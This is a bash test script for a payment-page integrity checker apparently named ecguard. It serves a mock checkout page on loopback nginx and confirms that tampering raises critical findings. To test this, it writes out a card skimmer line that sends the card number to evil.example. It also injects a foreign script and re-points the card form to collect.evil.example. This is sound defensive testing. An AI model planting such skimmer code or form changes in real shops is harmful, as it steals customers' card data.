#!/bin/bash
# CLI tests: payment-page integrity end to end, against a real nginx on a
# loopback port. A checkout page (its own checkout.js, the payment
# provider's token script with SRI, an inline script, a card form posting
# to the shop) is recorded with `ecguard web --baseline`; then the attacks
# this check exists for are made one at a time on the served files - the
# shop's own script altered (the usual skimmer), a script from a foreign
# host injected, the card form re-pointed - and each must be a critical
# finding of `ecguard web` and of `ecguard audit` (checks/endpoints.yaml),
# and go away when the page is restored. Only 127.0.0.1 is contacted: the
# provider's script is inventoried, never fetched.
. "$SRCDIR/tests/cli/lib.sh"

if [ ! -x /usr/sbin/nginx ]; then
	echo "1..0 # SKIP nginx (Debian's nginx-light) not installed"
	exit 0
fi
. "$SRCDIR/tests/cli/tls_servers.sh"
trap 'tls_stop_nginx; rm -rf "$TMPD"' EXIT

SITE=$TMPD/site
mkdir -p "$SITE/js"
chmod 755 "$TMPD"
cat >"$SITE/pay.html" <<'HTML'
<!doctype html>
<html><head><title>お支払い</title>
<script src="/js/checkout.js"></script>
<script src="https://js.psp.example/token.js" integrity="sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC" crossorigin="anonymous"></script>
<script>window.shop = {cart: 3};</script>
</head><body>
<form action="/shopping/confirm" method="post">
<input name="card_no" autocomplete="cc-number"><input name="cvc" autocomplete="cc-csc">
<button>支払う</button></form>
</body></html>
HTML
printf 'document.forms[0].addEventListener("submit", function () {});\n' >"$SITE/js/checkout.js"
printf '<html><body>shop</body></html>\n' >"$SITE/index.html"
cp "$SITE/pay.html" "$TMPD/pay.orig"
cp "$SITE/js/checkout.js" "$TMPD/checkout.orig"
chmod -R a+rX "$SITE"

if ! tls_start_http_nginx "$SITE" "server_tokens off;
		add_header Content-Security-Policy \"default-src 'self'; script-src 'self' https://js.psp.example\" always;
		add_header X-Frame-Options DENY always;"; then
	echo "1..0 # SKIP nginx does not start here"
	exit 0
fi

PORT=$HTTP_PORT
URL=http://127.0.0.1:$PORT/pay.html
cat >"$TMPD/site.yaml" <<YAML
schema: ecguard.spec/1
site:
  name: Page shop
  endpoints:
    - name: payment
      url: $URL
      payment: true
      script_hosts: [js.psp.example]
      form_hosts: ["*.psp.example"]
YAML
STORE=$TMPD/ecguard.db

# Sorted "id=severity" of the page findings in the JSON in $out.
page_ids() {
	printf '%s' "$out" | python3 -c '
import json, sys
j = json.load(sys.stdin)
print(" ".join(sorted(f["id"] + "=" + f["severity"] for f in j["page"]["findings"])))'
}
# Sorted "status check" of the page.* results of the audit JSON in $out.
audit_page() {
	printf '%s' "$out" | python3 -c '
import json, sys
j = json.load(sys.stdin)
print(" ".join(sorted("%s:%s" % (r["check"], r["status"]) for r in j["results"] if r["check"].startswith("page."))))'
}

# 1. Before any baseline: the page's own checks, and page.no_baseline.
run web --spec "$TMPD/site.yaml" --no-page "$URL" --format json
is "$(printf '%s' "$out" | python3 -c 'import json,sys; print(json.load(sys.stdin)["page"])')" "None" "--no-page: no page section"
run web --spec "$TMPD/site.yaml" --store "$STORE" "$URL" --format json
is "$rc" 2 "a --store that does not exist is refused (the baseline creates it)"
run web --baseline --spec "$TMPD/site.yaml" --store "$STORE" "$URL"
is "$rc" 0 "--baseline exits 0"
contains "$out" "Baseline 1 recorded for $URL (3 scripts, 0 iframes, 1 forms, 2 security headers; 1 script bodies hashed)" "--baseline says what it recorded"
contains "$out" "page.script_no_sri" "--baseline still shows the page's own problem (checkout.js without SRI)"
is "$(stat -c %a "$STORE")" 600 "the store the baseline creates is 0600"

# 2. Unchanged: compared, only the standing SRI finding.
run web --spec "$TMPD/site.yaml" --store "$STORE" "$URL" --format json
json_eq "$out" 'j["page"]["state"]' compared "the page is compared with its baseline"
json_eq "$out" 'j["page"]["scripts_fetched"]' 1 "the page's own script is fetched and hashed"
json_eq "$out" 'j["page"]["scripts_not_fetched"]' 1 "the provider's script is not fetched (only the named host is contacted)"
is "$(page_ids)" "page.script_no_sri=low" "unchanged page: no change finding"
run audit --root "$SRCDIR/tests/fixtures/hardened" --spec "$TMPD/site.yaml" --store "$STORE" --format json --fail-on none
is "$(audit_page)" "page.baseline:ok page.card_form_target:ok page.integrity:ok page.script_sources:alarm" "audit of the unchanged page: baseline ok, integrity ok"

# 3. The shop's own script altered: critical in web and audit.
printf 'new Image().src="https://evil.example/c?d="+document.forms[0].card_no.value;\n' >>"$SITE/js/checkout.js"
run web --spec "$TMPD/site.yaml" --store "$STORE" "$URL" --format json
is "$rc" 1 "an altered script makes web exit 1"
is "$(page_ids)" "page.script_changed=critical page.script_no_sri=low" "altered checkout.js: page.script_changed, critical"
run audit --root "$SRCDIR/tests/fixtures/hardened" --spec "$TMPD/site.yaml" --store "$STORE" --format json --fail-on none
is "$(audit_page)" "page.baseline:ok page.card_form_target:ok page.integrity:alarm page.script_sources:alarm" "audit: page.integrity alarms"
json_eq "$out" '[r["severity"] for r in j["results"] if r["check"] == "page.integrity"]' '["critical"]' "page.integrity is a critical check"
cp "$TMPD/checkout.orig" "$SITE/js/checkout.js"

# 4. A foreign script injected into the page.
sed -i 's|</head>|<script src="https://cdn.evil.example/jquery.min.js"></script></head>|' "$SITE/pay.html"
run web --spec "$TMPD/site.yaml" --store "$STORE" "$URL" --format json
is "$(page_ids)" "page.script_added=critical page.script_host=high page.script_no_sri=low page.script_no_sri=medium" "injected script: added (critical), foreign host, no SRI"
json_eq "$out" 'j["page"]["scripts_not_fetched"]' 2 "the injected script's host is never contacted"
cp "$TMPD/pay.orig" "$SITE/pay.html"

# 5. The card form re-pointed to another host.
sed -i 's|action="/shopping/confirm"|action="https://collect.evil.example/p"|' "$SITE/pay.html"
run web --spec "$TMPD/site.yaml" --store "$STORE" "$URL" --format json
is "$(page_ids)" "page.form_changed=high page.form_offsite=critical page.script_no_sri=low" "re-pointed card form: offsite (critical) and changed"
run audit --root "$SRCDIR/tests/fixtures/hardened" --spec "$TMPD/site.yaml" --store "$STORE" --format json --fail-on none
is "$(audit_page)" "page.baseline:ok page.card_form_target:alarm page.integrity:alarm page.script_sources:alarm" "audit: the card form target alarms"
# Posting to the payment provider (an allowed form host) is no offsite form.
sed -i 's|action="https://collect.evil.example/p"|action="https://pay.psp.example/charge"|' "$SITE/pay.html"
run web --spec "$TMPD/site.yaml" --store "$STORE" "$URL" --format json
is "$(page_ids)" "page.form_changed=high page.script_no_sri=low" "a form posting to an allowed provider host is not offsite (still a change)"
cp "$TMPD/pay.orig" "$SITE/pay.html"

# 6. Restored: no change again; a new authorised version re-baselined.
run web --spec "$TMPD/site.yaml" --store "$STORE" "$URL" --format json
is "$(page_ids)" "page.script_no_sri=low" "restored page: no change"
sed -i 's|<script>window.shop = {cart: 3};</script>|<script>window.shop = {cart: 4};</script>|' "$SITE/pay.html"
run web --spec "$TMPD/site.yaml" --store "$STORE" "$URL" --format json
is "$(page_ids)" "page.script_changed=critical page.script_no_sri=low" "an inline script changed by one byte is a changed script"
run web --baseline --spec "$TMPD/site.yaml" --store "$STORE" "$URL" --format json
json_eq "$out" 'j["baseline_id"]' 2 "a second baseline supersedes the first"
run web --spec "$TMPD/site.yaml" --store "$STORE" "$URL" --format json
is "$(page_ids)" "page.script_no_sri=low" "after the new baseline the change is authorised"

# 7. Unreachable payment page and missing baseline in the audit.
cat >"$TMPD/other.yaml" <<YAML
schema: ecguard.spec/1
site:
  name: Page shop
  endpoints:
    - url: http://127.0.0.1:$PORT/index.html
      payment: true
    - url: http://127.0.0.1:$PORT/missing.html
      payment: true
YAML
run audit --root "$SRCDIR/tests/fixtures/hardened" --spec "$TMPD/other.yaml" --store "$STORE" --format json --fail-on none
json_eq "$out" 'sorted((r["resource"].rsplit("/", 1)[1], r["status"], r["reason"][:22]) for r in j["results"] if r["check"] == "page.baseline")' \
	'[["index.html", "alarm", "no baseline recorded: "], ["missing.html", "alarm", "the page cannot be che"]]' "audit: a payment page without a baseline and an unreachable one alarm"

# 8. --offline: nothing is contacted, the endpoint checks skip.
run audit --root "$SRCDIR/tests/fixtures/hardened" --spec "$TMPD/site.yaml" --store "$STORE" --offline --format json --fail-on none
json_eq "$out" 'sorted(set(r["status"] for r in j["results"] if r["check"].split(".")[0] in ("page", "tls") or r["check"] in ("web.endpoint_reachable", "web.exposed_files")))' \
	'["skip"]' "audit --offline: the page, tls and web endpoint checks skip"
tls_stop_nginx
run audit --root "$SRCDIR/tests/fixtures/hardened" --spec "$TMPD/site.yaml" --store "$STORE" --format json --fail-on none
json_eq "$out" '[r["status"] for r in j["results"] if r["check"] == "web.endpoint_reachable"]' \
	'["alarm"]' "without --offline, a site that is down alarms in web.endpoint_reachable"

# 9. Tables: page_scripts and page_forms as SQL (the site up again).
tls_start_http_nginx "$SITE" "server_tokens off;" || exit 1
URL=http://127.0.0.1:$HTTP_PORT/pay.html
run query --spec "$TMPD/site.yaml" --format json "SELECT line, host, inline, same_origin, sri FROM page_scripts WHERE target = '$URL' ORDER BY line"
json_eq "$out" 'j' '[{"line": 3, "host": "127.0.0.1", "inline": 0, "same_origin": 1, "sri": "none"}, {"line": 4, "host": "js.psp.example", "inline": 0, "same_origin": 0, "sri": "valid"}, {"line": 5, "host": null, "inline": 1, "same_origin": 1, "sri": null}]' "page_scripts rows"
run query --spec "$TMPD/site.yaml" --format json "SELECT url, method, card, same_origin FROM page_forms WHERE target = '$URL'"
json_eq "$out" 'j' "[{\"url\": \"http://127.0.0.1:$HTTP_PORT/shopping/confirm\", \"method\": \"post\", \"card\": 1, \"same_origin\": 1}]" "page_forms rows"
run query "SELECT * FROM page_scripts WHERE target = 'ftp://x/'"
is "$rc" 2 "a bad target is a query error"
contains "$err" "bad web target" "the error says what a target is"
done_testing
